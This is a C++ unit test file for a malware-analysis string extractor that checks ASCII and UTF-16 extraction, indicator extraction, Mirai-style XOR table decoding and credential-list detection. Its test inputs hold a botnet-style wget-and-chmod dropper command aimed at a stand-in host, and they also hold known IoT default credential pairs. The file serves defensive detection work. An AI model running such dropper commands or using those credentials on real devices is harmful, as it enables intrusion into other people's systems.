#include "analysis/static/strings.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <random>
#include <tuple>

namespace mitsu::analysis {
namespace {

std::vector<std::byte> blob(std::string_view text) {
  auto bytes = std::as_bytes(std::span(text.data(), text.size()));
  return {bytes.begin(), bytes.end()};
}

bool has(const std::vector<std::string>& list, std::string_view value) {
  return std::find(list.begin(), list.end(), value) != list.end();
}

TEST(Strings, ExtractsAsciiAndUtf16) {
  std::string data(
      "\x01\x02hello world\x00\x03"
      "abc\x00",
      20);
  std::string wide = std::string("h\0e\0l\0l\0o\0!\0", 12);
  data += std::string("\xff\xff", 2) + wide + std::string("\x00\x00", 2);
  auto strings = extract_strings(blob(data));
  ASSERT_GE(strings.size(), 2u);
  EXPECT_EQ(strings[0].text, "hello world");
  EXPECT_EQ(strings[0].offset, 2u);
  auto utf16 = std::find_if(strings.begin(), strings.end(), [](auto& s) { return s.utf16; });
  ASSERT_NE(utf16, strings.end());
  EXPECT_EQ(utf16->text, "hello!");
}

// The extractor scans bit masks 64 bytes at a time; this is the byte-at-a-time definition it
// must agree with, including runs that cross or end on block boundaries.
std::vector<ExtractedString> reference_strings(const std::vector<std::byte>& data,
                                               std::size_t min_length) {
  auto printable = [](std::byte b) {
    auto c = static_cast<unsigned char>(b);
    return (c >= 0x20 && c < 0x7f) || c == '\t';
  };
  std::vector<ExtractedString> out;
  std::size_t run = 0;
  for (std::size_t i = 0; i <= data.size(); ++i) {
    if (i < data.size() && printable(data[i])) {
      ++run;
      continue;
    }
    if (run >= min_length) {
      std::string text(reinterpret_cast<const char*>(data.data()) + i - run,
                       std::min(run, kMaxStringLength));
      out.push_back({i - run, text, false, 0});
    }
    run = 0;
  }
  for (std::size_t parity = 0; parity < 2; ++parity) {
    std::string text;
    std::size_t start = 0;
    for (std::size_t i = parity;; i += 2) {
      bool wide = i + 1 < data.size() && printable(data[i]) && data[i + 1] == std::byte{0};
      if (wide) {
        start = text.empty() ? i : start;
        text += static_cast<char>(data[i]);
        continue;
      }
      if (text.size() >= min_length) {
        out.push_back({start, text.substr(0, kMaxStringLength), true, 0});
      }
      text.clear();
      if (i + 1 >= data.size()) {
        break;
      }
    }
  }
  return out;
}

TEST(Strings, MaskScanEqualsByteAtATimeDefinition) {
  std::mt19937 random(5);
  // Printable bytes, zeros and others, in proportions that make many short and long runs.
  const std::string alphabet = std::string("ab \t~\x1f\x7f\x80", 8) + std::string(3, '\0');
  int strings = 0;
  for (int round = 0; round < 400; ++round) {
    std::size_t size = round < 200 ? random() % 300 : 5000 + random() % 5000;
    std::vector<std::byte> data(size);
    std::size_t bias = random() % alphabet.size();
    for (auto& b : data) {
      b = static_cast<std::byte>(
          alphabet[std::min(random() % alphabet.size(), random() % alphabet.size() + bias)]);
    }
    for (std::size_t min_length : {1u, 4u, 7u, 40u}) {
      auto got = extract_strings(data, min_length);
      auto want = reference_strings(data, min_length);
      auto key = [](const ExtractedString& s) { return std::tie(s.utf16, s.offset, s.text); };
      auto by_key = [&](const auto& a, const auto& b) { return key(a) < key(b); };
      std::sort(got.begin(), got.end(), by_key);
      std::sort(want.begin(), want.end(), by_key);
      ASSERT_EQ(got.size(), want.size()) << size << " bytes, min " << min_length;
      for (std::size_t i = 0; i < got.size(); ++i) {
        ASSERT_EQ(key(got[i]), key(want[i])) << size << " bytes, min " << min_length;
      }
      strings += static_cast<int>(got.size());
    }
  }
  EXPECT_GT(strings, 10000);
}

TEST(Strings, FindsIndicators) {
  Iocs iocs;
  extract_iocs("cd /tmp || cd /var/run; wget http://198.51.100.23:8080/bins/x.arm7; chmod 777 x",
               iocs);
  extract_iocs("connect 203.0.113.5:23 and 192.0.2.1 then cnc.example.com", iocs);
  extract_iocs("libc.so.6 version 1.2.3.4.5 config.sh 999.1.1.1", iocs);
  EXPECT_TRUE(has(iocs.urls, "http://198.51.100.23:8080/bins/x.arm7"));
  EXPECT_TRUE(has(iocs.endpoints, "198.51.100.23:8080"));
  EXPECT_TRUE(has(iocs.endpoints, "203.0.113.5:23"));
  EXPECT_TRUE(has(iocs.endpoints, "192.0.2.1"));
  EXPECT_EQ(iocs.endpoints.size(), 3u) << "no version strings or invalid octets";
  EXPECT_TRUE(has(iocs.domains, "cnc.example.com"));
  EXPECT_EQ(iocs.domains.size(), 1u) << iocs.domains.back();
  ASSERT_EQ(iocs.commands.size(), 1u);
  EXPECT_NE(iocs.commands[0].find("wget"), std::string::npos);
}

TEST(Strings, DecodesMiraiStyleXorTables) {
  // Mirai's table: each entry XOR 0x22 (its default key 0xdeadbeef folded to one byte).
  std::string hidden;
  for (std::string_view entry : {"/proc/", "/dev/watchdog", "cnc.example.net", "shell"}) {
    for (char c : entry) {
      hidden.push_back(static_cast<char>(c ^ 0x22));
    }
    hidden.push_back(static_cast<char>(0x22));  // the encoded NUL
  }
  std::string data = std::string(64, '\0') + hidden + std::string(64, '\0') + "plain text here";
  StringsReport report = analyze_strings(blob(data));
  ASSERT_EQ(report.xor_keys, std::vector<std::uint8_t>{0x22});
  EXPECT_TRUE(has(report.iocs.domains, "cnc.example.net"));
  auto decoded = std::count_if(report.strings.begin(), report.strings.end(),
                               [](auto& s) { return s.xor_key == 0x22; });
  EXPECT_GE(decoded, 3);
  for (const auto& s : report.strings) {
    if (s.xor_key == 0x22) {
      EXPECT_EQ(s.text.find("plain"), std::string::npos) << "readable text is not re-decoded";
    }
  }
}

TEST(Strings, FindsBruteForceCredentialLists) {
  CredentialList known = parse_credential_list(
      "# comment\nroot xc3511\nroot vizxv\nroot 888888\nadmin admin1234\nsupport support\n");
  ASSERT_EQ(known.size(), 5u);
  std::vector<ExtractedString> strings;
  for (const char* s : {"root", "xc3511", "vizxv", "888888", "admin", "other"}) {
    strings.push_back({0, s, false, 0});
  }
  EXPECT_EQ(find_credentials(strings, known),
            (std::vector<std::string>{"root:xc3511", "root:vizxv", "root:888888"}));
  strings.resize(3);  // only two pairs left: no list, no claim
  EXPECT_TRUE(find_credentials(strings, known).empty());
}

TEST(Strings, NoKeyWithoutEvidence) {
  std::string data = "ordinary program text with /proc/ mentioned once in clear";
  EXPECT_TRUE(find_xor_keys(blob(data)).empty());
}

}  // namespace
}  // namespace mitsu::analysis
